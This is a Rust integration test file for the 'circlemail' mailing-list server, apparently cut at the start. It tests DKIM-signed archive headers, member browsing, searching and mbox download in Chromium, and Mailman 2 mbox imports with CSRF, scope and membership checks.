records = json.loads(sys.argv[1])
msg = sys.stdin.buffer.read()
def dns(name, timeout=5):
    return records.get(name.decode().rstrip(".")).encode()
ok = dkim.verify(msg, dnsfunc=dns)
print(ok)
sys.exit(0 if ok else 1)
"#;

// Every copy names the list's archive (List-Archive) and its own page (Archived-At), both
// signed: dkimpy verifies the copy, and the page is there for a member.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn archived_at_is_signed_and_leads_to_the_message() {
    use circlemail::{config::DkimKeyConfig, signing::keys};
    let db = TestDb::new(crate::support::db::Backend::Sqlite, None).await;
    let sink = Sink::start().await;
    let mut config = web_config(&db.url, sink.addr);
    config.http.api_token = Some(circlemail::config::Secret::new(BREAK_GLASS));
    let pem = keys::generate("rsa").unwrap();
    let path = db.dir.path().join("rsa.pem");
    std::fs::write(&path, &pem).unwrap();
    let public = keys::parse(pem.as_bytes()).unwrap().public;
    config.dkim.keys.push(DkimKeyConfig {
        domain: "lists.test".into(),
        selector: "s1".into(),
        private_key: path,
        arc: true,
    });
    let app = TestApp::spawn(config).await;
    let root = Client {
        http: app.http,
        token: BREAK_GLASS.into(),
    };
    let board = list(&root, "Board", "board", &["anna@x.org", "bo@x.org"]).await;
    let to = "board@lists.test";
    let r = post(
        &app,
        "anna@x.org",
        &[to],
        &mail("anna@x.org", to, "Signed", "sig@x.org", &[], "Hello."),
    )
    .await;
    let queue_id = crate::support::app::queue_id(&r);
    sink.wait_for_recipients(2, Duration::from_secs(15)).await;
    let copy = sink.messages().remove(0);
    let archived_at = copy.header("Archived-At").expect("Archived-At");
    let expected = format!("<http://{}/archives/{board}/message/{queue_id}>", app.http);
    assert_eq!(archived_at.trim(), expected);
    assert_eq!(
        copy.header("List-Archive").unwrap().trim(),
        format!("<http://{}/archives/{board}>", app.http)
    );
    let records =
        json!({ "s1._domainkey.lists.test": format!("v=DKIM1; k=rsa; p={public}") }).to_string();
    let (ok, out) = crate::support::python::run(VERIFY, copy.data.clone(), records).await;
    assert!(ok, "{out}");
    let text = String::from_utf8_lossy(&copy.data).to_lowercase();
    let h: String = text
        .split("h=")
        .nth(1)
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .replace(['\r', '\n', '\t', ' '], "");
    assert!(
        h.contains("archived-at") && h.contains("list-archive"),
        "{h}"
    );
    let web = WebClient::new(app.http);
    sign_in(&web, &sink, "bo@x.org").await;
    let page = web
        .get(&crate::support::web::path_of(
            expected.trim_matches(['<', '>']),
        ))
        .await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("Signed"));
    std::mem::forget(db);
    app.stop().await;
}

// A board member in Chromium: opens the archives (sent to sign in), signs in by the mailed
// link, lands back on the archive, opens a conversation, searches, downloads a month.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_board_member_reads_searches_and_downloads_in_chromium() {
    use crate::support::{browser::Browser, web::mailed_link};
    let db = TestDb::new(crate::support::db::Backend::Sqlite, None).await;
    let (app, sink, root) = start(&db).await;
    let board = list(&root, "Board", "board", &["anna@x.org", "bo@x.org"]).await;
    let to = "board@lists.test";
    post(
        &app,
        "anna@x.org",
        &[to],
        &mail(
            "anna@x.org",
            to,
            "Spring meeting",
            "sp1@x.org",
            &[],
            "We meet on 12 March.\r\nAgenda: the hall.",
        ),
    )
    .await;
    post(
        &app,
        "bo@x.org",
        &[to],
        &mail(
            "bo@x.org",
            to,
            "Re: Spring meeting",
            "sp2@x.org",
            &["sp1@x.org"],
            "Fine by me.\r\n\r\n> We meet on 12 March.\r\n> Agenda: the hall.\r\n",
        ),
    )
    .await;

    let b = Browser::phone().await;
    b.open(&format!("http://{}/archives/{board}", app.http))
        .await;
    b.wait_for_text("h1", "Sign in").await;
    b.fill("#address", "bo@x.org").await;
    b.click("#send").await;
    b.wait_for_text("h1", "Check your mail").await;
    let link = mailed_link(&sink, "bo@x.org", 0).await;
    b.open(&link).await;
    b.click("#signin").await;
    b.wait_for_text("h1", "Board").await;
    assert!(b.fits_width().await, "the list page fits a phone");
    b.click(".archive-months a").await;
    b.wait_for_text("main", "Spring meeting").await;
    b.click(".archive-threads a").await;
    b.wait_for_text("h1", "Spring meeting").await;
    assert_eq!(b.find_all("article").await.len(), 2);
    assert!(b.fits_width().await, "the conversation fits a phone");
    b.screenshot("archive-thread-phone").await;
    // The quote is folded: its text is not shown until opened.
    let quote = b.text("details.quote").await;
    assert!(!quote.contains("Agenda: the hall"), "{quote}");
    b.click("details.quote summary").await;
    assert!(b.text("details.quote").await.contains("Agenda: the hall"));
    // Search.
    b.open(&format!("http://{}/archives/{board}", app.http))
        .await;
    b.fill("input[name=q]", "hall").await;
    b.click(".archive-search button").await;
    b.wait_for_text("main", "Conversations with matching messages")
        .await;
    assert!(b.text(".archive-threads").await.contains("Spring meeting"));
    // Download the month (as the browser would, with its cookies).
    let month = archive::month_of(chrono_now());
    let got = b
        .run(&format!(
            "return fetch('/archives/{board}/month/{month}/mbox').then(r => r.text().then(t => [r.status, r.headers.get('content-disposition'), t]));"
        ))
        .await;
    assert_eq!(got[0], 200, "{got}");
    assert!(got[1].as_str().unwrap().starts_with("attachment"), "{got}");
    assert!(
        got[2].as_str().unwrap().contains("Message-ID: <sp2@x.org>"),
        "{got}"
    );
    b.resize(1280, 900).await;
    b.screenshot("archive-thread-desktop").await;
    b.quit().await;
    app.stop().await;
}

// An administrator in Chromium: on the list's archive page chooses Mailman 2's .txt.gz of a
// month, imports it, follows the progress to the summary, and finds the conversation.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_administrator_imports_a_pipermail_month_in_chromium() {
    use crate::support::{browser::Browser, web::mailed_link};
    let db = TestDb::new(crate::support::db::Backend::Sqlite, None).await;
    let (app, sink, root) = start(&db).await;
    let board = list(&root, "Board", "board", &["anna@x.org", "bo@x.org"]).await;
    account(
        &root,
        &app.store,
        "anna@x.org",
        Some("group_manager"),
        Some(board),
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("2024-March.txt.gz");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, pipermail_month().as_bytes()).unwrap();
    std::fs::write(&file, gz.finish().unwrap()).unwrap();

    let b = Browser::desktop().await;
    b.open(&format!("http://{}/admin/groups/{board}/archive", app.http))
        .await;
    b.wait_for_text("h1", "Sign in").await;
    b.fill("#address", "anna@x.org").await;
    b.click("#send").await;
    b.wait_for_text("h1", "Check your mail").await;
    let link = mailed_link(&sink, "anna@x.org", 0).await;
    b.open(&link).await;
    b.click("#signin").await;
    b.wait_for_text("main", "Import an mbox file").await;
    b.attach("#file", &file.display().to_string()).await;
    b.click("form[enctype] button").await;
    b.wait_for_text("dl.facts", "done").await;
    let facts = b.text("dl.facts").await;
    assert!(
        facts.contains("Added\n3") || facts.contains("Added 3"),
        "{facts}"
    );
    assert!(b.text("table.bad-lines").await.contains('4'));
    let docs = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/screenshots");
    b.screenshot_to(docs, "archive-import-desktop").await;
    b.click(&format!("main a[href=\"/archives/{board}\"]"))
        .await;
    b.wait_for_text("main", "2024").await;
    b.resize(390, 844).await;
    b.open(&format!("http://{}/admin/groups/{board}/archive", app.http))
        .await;
    b.wait_for_text("main", "2024-March.txt.gz").await;
    b.screenshot_to(docs, "archive-imports-phone").await;
    // What sticks out, if anything does (for the message).
    let wide = b
        .run("return [...document.querySelectorAll('main *')].filter(e => e.getBoundingClientRect().right > window.innerWidth).map(e => e.tagName).join(' ');")
        .await;
    assert!(
        b.fits_width().await,
        "the archive page fits a phone: {wide}"
    );
    b.quit().await;
    app.stop().await;
}

// `circlemail archive import`: a pipermail-style mbox (one message unreadable, one a duplicate)
// into a list, out of order; reported by position; a second run changes nothing.
#[test]
fn the_command_line_imports_an_mbox_and_a_second_run_changes_nothing() {
    use std::process::Command;
    let dir = tempfile::tempdir().unwrap();
    let config = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("config/circlemail.toml");
    let db = format!("sqlite://{}/cli.db", dir.path().display());
    let cm = |args: &[&str]| {
        Command::new(crate::support::process::BIN)
            .arg("--config")
            .arg(&config)
            .args(args)
            .env("CIRCLEMAIL_DATABASE_URL", &db)
            .output()
            .unwrap()
    };
    let created = cm(&[
        "group",
        "create",
        "Board",
        "--address",
        "board@lists.localhost",
    ]);
    assert!(
        created.status.success(),
        "{}",
        String::from_utf8_lossy(&created.stderr)
    );
    let mbox = "From anna@x.org Tue Mar  3 10:00:00 2015\n\
        From: Anna <anna@x.org>\nSubject: Re: Old plan\nMessage-ID: <r@x.org>\nIn-Reply-To: <o@x.org>\nDate: Tue, 3 Mar 2015 10:00:00 +0000\n\n\
        Agreed.\n>From the minutes: yes.\n\n\
        From nobody Mon Mar  2 10:00:00 2015\n\n\n\
        From bo@x.org Mon Mar  2 09:00:00 2015\n\
        From: Bo <bo@x.org>\nSubject: Old plan\nMessage-ID: <o@x.org>\nDate: Mon, 2 Mar 2015 09:00:00 +0000\n\nShall we?\n\n\
        From bo@x.org Mon Mar  2 09:00:00 2015\n\
        From: Bo <bo@x.org>\nSubject: Old plan\nMessage-ID: <o@x.org>\nDate: Mon, 2 Mar 2015 09:00:00 +0000\n\nShall we?\n";
    let file = dir.path().join("board.mbox");
    std::fs::write(&file, mbox).unwrap();
    let path = file.to_str().unwrap();
    let out = cm(&["archive", "import", "Board", path]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("message 2 not imported: line 11"), "{text}");
    assert!(
        text.contains("Board: 2 added, 1 already archived, 1 unreadable"),
        "{text}"
    );
    let again = cm(&["archive", "import", "Board", path]);
    let text = String::from_utf8_lossy(&again.stdout);
    assert!(
        text.contains("Board: 0 added, 3 already archived, 1 unreadable"),
        "{text}"
    );
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let store = circlemail::store::Store::connect(&db, 1).await.unwrap();
        let g = store.find_group("Board").await.unwrap().unwrap();
        assert_eq!(
            store.archive_months(g.id).await.unwrap()[0].month,
            "2015-03"
        );
        let rows = store.archive_month(g.id, "2015-03").await.unwrap();
        assert_eq!(rows.len(), 1, "one conversation, the reply came first");
        assert_eq!(rows[0].count, 2);
        assert_eq!(rows[0].first.subject, "Old plan");
        let (_, raw) = store
            .archive_message(
                g.id,
                &store.archive_thread(g.id, rows[0].thread_id).await.unwrap()[1]
                    .0
                    .key,
            )
            .await
            .unwrap()
            .unwrap();
        assert!(String::from_utf8_lossy(&raw).contains("\r\nFrom the minutes: yes.\r\n"));
        // archive_keep_years: posts older than that go.
        store
            .set_settings(g.id, r#"{"archive_keep_years": 5}"#)
            .await
            .unwrap();
        assert_eq!(store.archive_expire(chrono_now()).await.unwrap(), 2);
        assert!(store.archive_months(g.id).await.unwrap().is_empty());
    });
}

// An mbox as Mailman 2 keeps a month: three messages of one conversation (the third from a
// client that drops References), Swedish text, and a `From ` line with nothing after it.
fn pipermail_month() -> String {
    concat!(
        "From anna at x.org  Mon Mar  4 10:00:00 2024\n",
        "From: anna at x.org (Anna Berg)\n",
        "Date: Mon, 04 Mar 2024 10:00:00 +0100\n",
        "Subject: [Board] Budget 2024\n",
        "Message-ID: <budget1@x.org>\n",
        "\n",
        "Förslag: smörgåsbord på årsmötet.\n",
        ">From the treasurer's notes.\n",
        "\n",
        "From bo at x.org  Mon Mar  4 11:00:00 2024\n",
        "From: bo at x.org (Bo Ek)\n",
        "Date: Mon, 04 Mar 2024 11:00:00 +0100\n",
        "Subject: Re: [Board] Budget 2024\n",
        "Message-ID: <budget2@x.org>\n",
        "In-Reply-To: <budget1@x.org>\n",
        "References: <budget1@x.org>\n",
        "\n",
        "Agreed.\n",
        "\n",
        "From cia at x.org  Mon Mar  4 12:00:00 2024\n",
        "From: cia at x.org (Cia Lund)\n",
        "Date: Mon, 04 Mar 2024 12:00:00 +0100\n",
        "Subject: Re: [Board] Budget 2024\n",
        "Message-ID: <budget3@x.org>\n",
        "\n",
        "Me too.\n",
        "\n",
        "From nobody Mon Mar  4 13:00:00 2024\n",
        "\n",
        "\n",
    )
    .to_string()
}

/// A multipart upload of `file` named `name` as the archive page's form sends it.
async fn upload_mbox(
    web: &WebClient,
    list: i64,
    csrf: &str,
    name: &str,
    file: &[u8],
) -> crate::support::web::Page {
    let boundary = "cmboundaryQ2x9mbox";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(file);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    web.send(
        "POST",
        &format!("/admin/groups/{list}/archive?csrf={csrf}"),
        Some(&body),
        &[(
            "Content-Type",
            &format!("multipart/form-data; boundary={boundary}"),
        )],
    )
    .await
}

// A list manager uploads Mailman 2's .txt.gz of a month on the list's archive page: the import
// runs in the background with a progress page, then says what came of it (three added, the
// empty message unreadable, by position); the conversation is threaded and searchable; the
// same file again (plain, over the API) adds nothing; a file that is no mbox is refused with
// why; another list, out of the manager's scope, is the 404 of an unknown page; the audit log
// names the import without keeping the file; and the archive stays the members' only.
on_both_backends!(
    an_administrator_uploads_an_mbox_into_a_lists_archive,
    async |db: &TestDb| {
        let (app, sink, root) = start(db).await;
        let board = list(&root, "Board", "board", &["anna@x.org", "bo@x.org"]).await;
        let chat = list(&root, "Chat", "chat", &["carl@x.org"]).await;
        let (_, _, gm) = account(
            &root,
            &app.store,
            "gm@x.org",
            Some("group_manager"),
            Some(board),
        )
        .await;
        let web = WebClient::new(app.http);
        sign_in(&web, &sink, "gm@x.org").await;

        let page = web.get(&format!("/admin/groups/{board}/archive")).await;
        assert_eq!(page.status, 200, "{}", page.body);
        assert!(page.body.contains("enctype=\"multipart/form-data\""));
        assert!(page.body.contains("Nothing has been imported"));
        let csrf = page.csrf();

        let plain = pipermail_month();
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut gz, plain.as_bytes()).unwrap();
        let gz = gz.finish().unwrap();
        let sent = upload_mbox(&web, board, &csrf, "2024-March.txt.gz", &gz).await;
        assert_eq!(sent.status, 303, "{}", sent.body);
        let job = sent.location().unwrap().to_string();
        assert!(
            job.starts_with(&format!("/admin/groups/{board}/archive/imports/")),
            "{job}"
        );
        let mut done = None;
        for _ in 0..300 {
            let p = web.get(&job).await;
            assert_eq!(p.status, 200, "{}", p.body);
            if !p.body.contains("data-progress") {
                done = Some(p);
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let done = html_unescape(&done.expect("the import ended").body);
        assert!(done.contains("2024-March.txt.gz"), "{done}");
        assert!(done.contains("<dt>Added</dt><dd>3</dd>"), "{done}");
        assert!(
            done.contains("<dt>Already archived</dt><dd>0</dd>"),
            "{done}"
        );
        assert!(done.contains("<dt>Unreadable</dt><dd>1</dd>"), "{done}");
        assert!(
            done.contains(">4</td>"),
            "the empty message by position: {done}"
        );
        let progress = web.get(&format!("{job}/progress")).await;
        assert_eq!(progress.status, 200);
        let p: serde_json::Value = serde_json::from_str(&progress.body).unwrap();
        assert_eq!(p["state"], "done");
        assert_eq!(p["read_bytes"], p["total_bytes"]);
        assert_eq!(p["total_bytes"], gz.len());

        // Threaded (the third by its subject) and searchable, Swedish included.
        let month = app.store.archive_month(board, "2024-03").await.unwrap();
        assert_eq!(month.len(), 1, "one conversation: {month:?}");
        let thread = app
            .store
            .archive_thread(board, month[0].thread_id)
            .await
            .unwrap();
        assert_eq!(thread.len(), 3);
        let found = web
            .get(&format!("/archives/{board}/search?q=sm%C3%B6rg%C3%A5sbord"))
            .await;
        assert_eq!(found.status, 200);
        assert!(
            html_unescape(&found.body).contains("Budget 2024"),
            "{}",
            found.body
        );
        let page = web.get(&format!("/admin/groups/{board}/archive")).await;
        assert!(page.body.contains("2024-March.txt.gz"), "{}", page.body);

        // Again, plain, through the API with the manager's token: nothing new.
        let again = crate::support::http::send(
            app.http,
            "POST",
            &format!("/api/v1/groups/{board}/archive/imports?wait=true&name=2024-March.txt"),
            Some(&gm.token),
            "application/mbox",
            Some(&plain),
        )
        .await;
        assert_eq!(again.status, 202, "{}", again.body);
        let again = again.json();
        assert_eq!(again["state"], "done", "{again}");
        assert_eq!(
            (again["added"].as_i64(), again["duplicates"].as_i64()),
            (Some(0), Some(3))
        );
        assert_eq!(again["unreadable"][0]["position"], 4, "{again}");
        let listed = gm
            .ok("GET", &format!("/groups/{board}/archive/imports"), None)
            .await;
        assert_eq!(listed["imports"].as_array().unwrap().len(), 2, "{listed}");
        assert_eq!(listed["imports"][0]["unreadable"], 1, "a count in the list");

        // Not an mbox: refused, with why.
        let csv = upload_mbox(&web, board, &csrf, "people.csv", b"email,name\na@x.org,A\n").await;
        assert_eq!(csv.status, 422, "{}", csv.body);
        assert!(csv.body.contains("not an mbox"), "{}", csv.body);
        let none = upload_mbox(&web, board, &csrf, "", b"").await;
        assert_eq!(none.status, 422, "{}", none.body);
        // Without the form token: refused, nothing imported.
        let forged = web
            .send(
                "POST",
                &format!("/admin/groups/{board}/archive"),
                Some(b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x\"\r\n\r\nFrom a\n\r\n--b--\r\n"),
                &[("Content-Type", "multipart/form-data; boundary=b")],
            )
            .await;
        assert_eq!(forged.status, 403, "{}", forged.body);

        // Out of scope: the same 404 as an unknown page, on the web and over the API.
        let unknown = web.get("/admin/groups/999999/archive").await;
        let other = web.get(&format!("/admin/groups/{chat}/archive")).await;
        assert_eq!((other.status, unknown.status), (404, 404));
        assert_eq!(
            upload_mbox(&web, chat, &csrf, "x.mbox", plain.as_bytes())
                .await
                .status,
            404
        );
        let api = crate::support::http::send(
            app.http,
            "POST",
            &format!("/api/v1/groups/{chat}/archive/imports"),
            Some(&gm.token),
            "application/mbox",
            Some(&plain),
        )
        .await;
        assert_eq!(api.status, 404, "{}", api.body);
        assert_eq!(
            app.store.archive_ids(chat, None, None).await.unwrap().len(),
            0
        );

        // The audit log names each import, without the file.
        let audit = root.ok("GET", "/audit?limit=50", None).await;
        let imports: Vec<&serde_json::Value> = audit["entries"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["action"] == "POST /groups/{id}/archive/imports")
            .collect();
        assert_eq!(imports.len(), 2, "{audit}");
        assert!(imports.iter().all(|e| e["actor"] == "gm@x.org"));
        assert!(
            !audit.to_string().contains("Agreed."),
            "the file is not kept"
        );

        // Members only, as the list's own posts: someone who is not in the list gets the 404.
        let outsider = WebClient::new(app.http);
        sign_in(&outsider, &sink, "carl@x.org").await;
        let key = &thread[0].0.key;
        assert_eq!(
            outsider
                .get(&format!("/archives/{board}/message/{key}"))
                .await
                .status,
            404
        );
        let member = WebClient::new(app.http);
        sign_in(&member, &sink, "bo@x.org").await;
        assert_eq!(
            member
                .get(&format!("/archives/{board}/message/{key}"))
                .await
                .status,
            200
        );
        app.stop().await;
    }
);
